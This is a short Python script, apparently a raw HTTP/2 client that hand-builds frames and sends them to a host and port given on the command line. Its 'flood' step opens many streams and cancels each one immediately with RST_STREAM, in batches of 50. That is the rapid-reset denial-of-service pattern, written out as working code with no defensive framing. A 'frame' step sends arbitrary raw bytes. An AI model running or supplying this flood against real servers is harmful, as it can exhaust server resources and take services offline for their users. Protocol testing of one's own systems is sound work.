"""An HTTP/2 client that does what no library lets one do.     h2talk.py HOST PORT STEP…

  preface            the 24 octets and an empty SETTINGS        magic   the 24 octets alone
  get:STREAM:PATH    HEADERS without an entry in the header table; several steps joined by + go in one segment
  rst:STREAM:CODE    RST_STREAM        flood:N  N times HEADERS and RST_STREAM (CANCEL), in segments of 50
  ack                confirms the SETTINGS
  frame:HEX          whatever it is
  and the steps of steps.py"""
import socket
import sys

import steps


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def get(stream, path):
    def literal(index, text):
        return bytes([index, len(text)]) + text.encode()

    block = b"\x82\x86" + literal(4, path) + literal(1, "shop.example")
    return frame(1, 5, stream, block)


def octets(step):
    what, _, value = step.partition(":")
    if what in ("preface", "magic"):
        return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + (frame(4, 0, 0) if what == "preface" else b"")
    if what == "get":
        stream, path = value.split(":")
        return get(int(stream), path)
    if what == "rst":
        stream, code = value.split(":")
        return frame(3, 0, int(stream), int(code).to_bytes(4, "big"))
    if what == "ack":
        return frame(4, 1, 0)
    if what == "frame":
        return bytes.fromhex(value)
    return None


sock = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=30)
steps.setup(sock)
for step in sys.argv[3:]:
    try:
        if step.startswith("flood:"):
            streams = [2 * n + 1001 for n in range(int(step[6:]))]
            for first in range(0, len(streams), 50):
                sock.sendall(b"".join(get(n, "/") + octets(f"rst:{n}:8") for n in streams[first : first + 50]))
        elif octets(step.split("+")[0]) is not None:
            sock.sendall(b"".join(octets(part) for part in step.split("+")))
        else:
            steps.run(sock, [step])
    except OSError:
        break
